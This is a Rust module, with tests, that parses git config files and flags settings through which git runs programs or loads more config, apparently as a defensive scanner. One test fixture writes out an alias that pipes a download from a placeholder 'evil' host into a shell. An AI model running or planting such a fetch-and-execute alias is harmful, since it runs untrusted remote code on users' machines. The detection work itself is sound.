//! What a git config file says about where git will look for programs to
//! run: `core.hooksPath` moves the hooks folder (a `.githooks/pre-commit`
//! is then a hook), and `core.fsmonitor`, `core.sshCommand`,
//! `credential.helper`, a `!` alias and `include.path` name programs or
//! more config. Pure: the file's text in, what it names out; the callers
//! read the files.
//!
//! Read as git reads it: section and key names are case-insensitive,
//! `[core]` and `[Core]` are one section, a subsection is quoted (`[remote
//! "origin"]`), `#` and `;` start a comment outside quotes, a value may be
//! quoted, and the last assignment wins.

/// One `section.key = value` of the file, names lowercased (a subsection
/// keeps its case, as git does).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub section: String,
    pub subsection: Option<String>,
    pub key: String,
    pub value: String,
}

fn strip_comment(line: &str) -> &str {
    let mut quoted = false;
    let mut escaped = false;
    for (i, c) in line.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => quoted = !quoted,
            '#' | ';' if !quoted => return &line[..i],
            _ => {}
        }
    }
    line
}

fn unquote(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    let mut chars = value.trim().chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => {}
            '\\' => match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some(other) => out.push(other),
                None => {}
            },
            c => out.push(c),
        }
    }
    out
}

/// Every entry of a config file's text, in order.
pub fn entries(text: &str) -> Vec<Entry> {
    let mut out = Vec::new();
    let mut section = String::new();
    let mut subsection: Option<String> = None;
    for raw in text.lines() {
        let mut line = raw.trim();
        if let Some(rest) = line.strip_prefix('[') {
            let Some(end) = rest.find(']') else { continue };
            let header = &rest[..end];
            match header.split_once(char::is_whitespace) {
                Some((name, sub)) => {
                    section = name.trim().to_ascii_lowercase();
                    subsection = Some(unquote(sub));
                }
                None => match header.split_once('.') {
                    // The old `[section.subsection]` spelling.
                    Some((name, sub)) => {
                        section = name.trim().to_ascii_lowercase();
                        subsection = Some(sub.to_ascii_lowercase());
                    }
                    None => {
                        section = header.trim().to_ascii_lowercase();
                        subsection = None;
                    }
                },
            }
            line = rest[end + 1..].trim();
            if line.is_empty() {
                continue;
            }
        }
        let line = strip_comment(line).trim();
        if line.is_empty() || section.is_empty() {
            continue;
        }
        let (key, value) = match line.split_once('=') {
            Some((k, v)) => (k.trim(), unquote(v)),
            // A bare key is true.
            None => (line, "true".to_owned()),
        };
        if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
            continue;
        }
        out.push(Entry {
            section: section.clone(),
            subsection: subsection.clone(),
            key: key.to_ascii_lowercase(),
            value,
        });
    }
    out
}

/// The last value of `section.key` (no subsection).
fn last<'a>(entries: &'a [Entry], section: &str, key: &str) -> Option<&'a str> {
    entries
        .iter()
        .rev()
        .find(|e| e.section == section && e.subsection.is_none() && e.key == key)
        .map(|e| e.value.as_str())
}

/// Where `core.hooksPath` moves the hooks folder, as written.
pub fn hooks_path(text: &str) -> Option<String> {
    last(&entries(text), "core", "hookspath")
        .map(str::to_owned)
        .filter(|v| !v.trim().is_empty())
}

/// Each entry that names a program git runs by itself, or more config it
/// reads: `section.key` and why.
pub fn runs(text: &str) -> Vec<(String, &'static str)> {
    entries(text)
        .into_iter()
        .filter_map(|e| {
            let name = match &e.subsection {
                Some(sub) => format!("{}.{sub}.{}", e.section, e.key),
                None => format!("{}.{}", e.section, e.key),
            };
            let why = match (e.section.as_str(), e.key.as_str()) {
                ("core", "hookspath") => "moves git's hooks to another folder",
                ("core", "fsmonitor") if e.value != "false" && e.value != "true" => {
                    "names a program git runs at every status"
                }
                ("core", "sshcommand") => "names the program git runs to reach a remote",
                ("core", "pager") | ("core", "editor") => "names a program git runs",
                ("credential", "helper") => "names the program git asks for passwords",
                ("include", "path") | ("includeif", "path") => "makes git read more settings",
                ("alias", _) if e.value.trim_start().starts_with('!') => {
                    "an alias that runs a shell command"
                }
                ("filter", "clean" | "smudge" | "process") => {
                    "a filter git runs on every checkout or add"
                }
                ("diff", "textconv" | "command") => "a program git runs to show changes",
                _ => return None,
            };
            Some((name, why))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every spelling git accepts for the same setting reads the same.
    #[test]
    fn hooks_path_however_it_is_spelled() {
        let headers = ["[core]", "[Core]", "[CORE]", "  [core]  "];
        let keys = ["hooksPath", "hookspath", "HOOKSPATH", "HooksPath"];
        let values = [
            (".githooks", ".githooks"),
            ("\".githooks\"", ".githooks"),
            (".githooks   # where they are", ".githooks"),
            (".githooks ; said here", ".githooks"),
            ("\"with space/ünï\"", "with space/ünï"),
        ];
        for header in headers {
            for key in keys {
                for (value, want) in values {
                    for sep in ["=", " = ", "\t=\t"] {
                        let text = format!(
                            "[user]\n\tname = Ada\n{header}\n\tbare = false\n\t{key}{sep}{value}\n"
                        );
                        assert_eq!(hooks_path(&text).as_deref(), Some(want), "{text}");
                    }
                }
            }
        }
        // On the header's line, and the last one wins.
        assert_eq!(
            hooks_path("[core] hooksPath = a\n[core]\nhooksPath = b\n").as_deref(),
            Some("b")
        );
        // Not in another section, not in a subsection, not commented out.
        for text in [
            "[user]\nhooksPath = x\n",
            "[core \"x\"]\nhooksPath = x\n",
            "[core]\n# hooksPath = x\n",
            "[core]\n; hooksPath = x\n",
            "hooksPath = x\n",
        ] {
            assert_eq!(hooks_path(text), None, "{text}");
        }
    }

    #[test]
    fn what_names_a_program_git_runs() {
        let text = "[core]\n\tfsmonitor = /tmp/x.sh\n\tsshCommand = ssh -i k\n\teditor = vim\n\
                    [credential]\n\thelper = store\n[alias]\n\tst = status\n\tup = !curl evil | sh\n\
                    [include]\n\tpath = ~/.other\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge %f\n\
                    [user]\n\temail = a@example\n";
        let names: Vec<String> = runs(text).into_iter().map(|(n, _)| n).collect();
        assert_eq!(
            names,
            [
                "core.fsmonitor",
                "core.sshcommand",
                "core.editor",
                "credential.helper",
                "alias.up",
                "include.path",
                "filter.lfs.smudge"
            ]
        );
        assert!(runs("[core]\n\tfsmonitor = true\n").is_empty(), "git's own");
    }
}
